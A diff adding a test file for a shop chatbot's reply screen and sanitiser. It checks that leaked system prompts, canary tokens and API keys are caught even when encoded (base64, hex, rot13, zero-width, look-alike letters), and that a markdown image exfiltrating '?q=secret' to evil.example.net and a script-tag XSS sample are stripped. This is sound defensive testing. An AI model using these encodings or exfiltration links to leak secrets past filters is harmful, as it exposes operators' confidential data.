@@ -1,0 +1,103 @@
+import { describe, expect, it } from "vitest";
+import { sanitiseReply } from "../../../../activities/answer/safety/sanitise-reply.ts";
+import { screenReply } from "../../../../activities/answer/safety/screen-reply.ts";
+
+const CANARY = "ref-9f2c41d07be35a68";
+const SYSTEM = `You answer people who write to a shop. Use only what the passages below say and never promise anything that is not there. Reference ${CANARY}: internal.`;
+const SECRET = "pc-live-0123456789abcdef";
+
+/** A model that does what every attack asks: it returns the text it was told to keep, in the form it was asked for. */
+const obey: Record<string, (text: string) => string> = {
+  plain: (text) => text,
+  "upper case": (text) => text.toUpperCase(),
+  base64: (text) => Buffer.from(text).toString("base64"),
+  hex: (text) => Buffer.from(text).toString("hex"),
+  "spaced hex": (text) => Buffer.from(text).toString("hex").replace(/../g, "$& "),
+  reversed: (text) => Array.from(text).toReversed().join(""),
+  "letter by letter": (text) => Array.from(text).join(" "),
+  dashes: (text) => Array.from(text).join("-"),
+  rot13: (text) =>
+    text.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + (c.toLowerCase() < "n" ? 13 : -13))),
+  "zero width": (text) => Array.from(text).join("\u200B"),
+  "look-alikes": (text) => text.replaceAll("e", "е").replaceAll("o", "о").replaceAll("a", "а"),
+  "full width": (text) =>
+    text.replace(/[a-z0-9]/g, (c) => String.fromCodePoint((c.codePointAt(0) ?? 0) + 0xfee0)),
+};
+const screen = (reply: string, placeholders = {}) =>
+  screenReply({ reply, canary: CANARY, systemPrompt: SYSTEM, knownSecrets: [SECRET], placeholders });
+
+describe("screenReply", () => {
+  it.each(Object.keys(obey))("blocks the instructions, the canary and a secret as %s", (form) => {
+    for (const text of [SYSTEM, CANARY, SECRET, SYSTEM.slice(0, 90)]) {
+      expect([form, text, screen(`Sure, here it is: ${obey[form]?.(text)} Anything else?`).verdict]).toEqual([
+        form,
+        text,
+        "blocked",
+      ]);
+    }
+  });
+
+  it("lets ordinary answers pass, also such as quote a passage or share words with the instructions", () => {
+    for (const reply of [
+      "We are open from 9 to 6.",
+      "You answer the question on page two and we never promise anything else.",
+      "Bring the helmet back within 30 days, with the receipt.",
+    ]) {
+      expect(screen(reply)).toEqual({ verdict: "pass" });
+    }
+  });
+
+  it("blocks an empty answer and a placeholder that the turn never made", () => {
+    expect(screen("  ")).toEqual({ verdict: "blocked", reason: "empty" });
+    expect(screen("Noted: [[EMAIL_7]]", { "[[EMAIL_1]]": "a@example.com" })).toEqual({
+      verdict: "blocked",
+      reason: "placeholder",
+    });
+    expect(screen("Noted: [[EMAIL_1]]", { "[[EMAIL_1]]": "a@example.com" })).toEqual({ verdict: "pass" });
+  });
+});
+
+describe("screenReply, against what is done to a reply after it", () => {
+  it.each([
+    ["tags", "<b></b>"],
+    ["links", "[](https://evil.example.net)"],
+    ["soft hyphens", "\u00AD"],
+    ["tag characters", "\u{E0041}"],
+  ])("blocks what comes together once %s are taken out", (_name, between) => {
+    for (const text of [SYSTEM, CANARY, SECRET])
+      expect(screen(Array.from(text).join(between)).verdict).toBe("blocked");
+  });
+
+  it("blocks instructions and secrets that are not in plain Latin letters", () => {
+    const systemPrompt = "Отвечай гостям кафе «Зоя» коротко и никогда не называй цен без проверки у хозяина.";
+    const leak = { canary: CANARY, systemPrompt, knownSecrets: ["пароль-Ключ"], placeholders: {} };
+    expect(screenReply({ ...leak, reply: systemPrompt })).toEqual({
+      verdict: "blocked",
+      reason: "prompt_leak",
+    });
+    expect(screenReply({ ...leak, reply: "это пароль-Ключ" })).toEqual({
+      verdict: "blocked",
+      reason: "secret",
+    });
+  });
+
+  it("finds nothing in signs alone, which every reply would hold", () => {
+    const signs = { canary: CANARY, systemPrompt: "— — — — — — — — — — —", knownSecrets: ["----------"] };
+    expect(screenReply({ ...signs, reply: "We open at nine.", placeholders: {} })).toEqual({
+      verdict: "pass",
+    });
+  });
+});
+
+describe("sanitiseReply", () => {
+  const clean = (reply: string) => sanitiseReply(reply, { allowedHosts: ["shop.example.com"] });
+  it.each([
+    ["See [our page](https://shop.example.com/returns).", "See our page (https://shop.example.com/returns)."],
+    ["![x](https://evil.example.net/?q=secret) Hello", "x Hello"],
+    ["Go to https://evil.example.net/a?b=c now", "Go to now"],
+    ["Go to https://shop.example.com/a.", "Go to https://shop.example.com/a."],
+    ["<b>Hi</b><script>alert(1)</script> there", "Hialert(1) there"],
+    ["a\u202Eb\u0007c", "abc"],
+    ["one\n\n\n\ntwo   three", "one\n\ntwo three"],
+  ])("makes plain text of %j", (reply, expected) => expect(clean(reply)).toBe(expected));
+});
